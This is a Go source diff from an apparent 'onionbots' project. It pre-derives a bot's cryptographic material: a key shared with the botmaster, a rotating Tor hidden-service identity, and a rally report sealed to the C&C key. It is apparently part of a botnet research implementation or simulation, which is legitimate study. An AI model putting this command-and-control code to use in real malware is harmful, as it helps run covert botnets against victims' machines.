@@ -1,0 +1,83 @@
+package botcrypto
+
+import (
+	"crypto/ecdh"
+	"crypto/ed25519"
+	"fmt"
+
+	"onionbots/internal/tor"
+)
+
+// BotMaterial is everything crypto-expensive about one bot's birth,
+// pre-derived so a churn join pays O(handshake) instead of O(keygen):
+// the bot's DRBG (positioned exactly after the birth reads), its shared
+// key K_B, the hidden-service identity for one rotation period, the
+// sealed rally report {K_B}_PK_CC, and the expanded sealing sessions.
+//
+// Determinism contract: DeriveBotMaterial consumes the bot DRBG in
+// exactly the order the live birth path does — K_B first, then the
+// rally seal's ephemeral key, nonce, and padding — and touches no other
+// randomness source. A bot built from material is therefore
+// byte-indistinguishable from one that derived everything at infection
+// time; the only difference is when the work happened.
+type BotMaterial struct {
+	// DRBG is the bot's private stream, positioned after the K_B and
+	// rally-seal reads.
+	DRBG *DRBG
+	// KB is the per-bot key shared with the botmaster.
+	KB []byte
+	// Period is the rotation period Identity was derived for. A join
+	// landing in a later period must Refresh first.
+	Period uint64
+	// Identity is the hidden-service identity for Period, with its
+	// ESTABLISH_INTRO payload already signed.
+	Identity *tor.Identity
+	// SealedKB is the rally report body ({K_B}_PK_CC), nil when the
+	// material was derived without a C&C to rally with.
+	SealedKB []byte
+	// NetKey is a private copy of the network-wide sealing key, and
+	// NetSeal/KBSeal the expanded sealing sessions for it and K_B.
+	NetKey          []byte
+	NetSeal, KBSeal *SealKey
+}
+
+// DeriveBotMaterial pre-derives one bot's key material. seed is the
+// bot's individualizing seed (the same bytes NewBot would receive), ip
+// the rotation period to derive the identity for, and masterEncPub the
+// C&C encryption key the rally report is sealed to — nil skips the
+// rally seal (a bot with no C&C never seals one).
+func DeriveBotMaterial(masterSignPub ed25519.PublicKey, masterEncPub *ecdh.PublicKey,
+	netKey, seed []byte, ip uint64) (*BotMaterial, error) {
+	drbg := NewDRBG(append([]byte("bot:"), seed...))
+	m := &BotMaterial{
+		DRBG:    drbg,
+		KB:      drbg.Bytes(BotKeySize),
+		Period:  ip,
+		NetKey:  append([]byte(nil), netKey...),
+		NetSeal: NewSealKey(netKey),
+	}
+	m.Identity = DeriveIdentity(masterSignPub, m.KB, ip)
+	m.Identity.IntroPayload() // sign the intro binding during warmup
+	m.KBSeal = NewSealKey(m.KB)
+	if masterEncPub != nil {
+		sealed, err := SealToPublic(masterEncPub, m.KB, drbg)
+		if err != nil {
+			return nil, fmt.Errorf("botcrypto: pre-seal rally report: %w", err)
+		}
+		m.SealedKB = sealed
+	}
+	return m, nil
+}
+
+// Refresh re-derives the identity for a new rotation period, keeping
+// K_B, the DRBG position, and the sealed rally report (none of which
+// depend on the period). Pools call it when a pre-derived entry is
+// drawn after the period it was warmed for has rolled over.
+func (m *BotMaterial) Refresh(masterSignPub ed25519.PublicKey, ip uint64) {
+	if ip == m.Period {
+		return
+	}
+	m.Period = ip
+	m.Identity = DeriveIdentity(masterSignPub, m.KB, ip)
+	m.Identity.IntroPayload()
+}
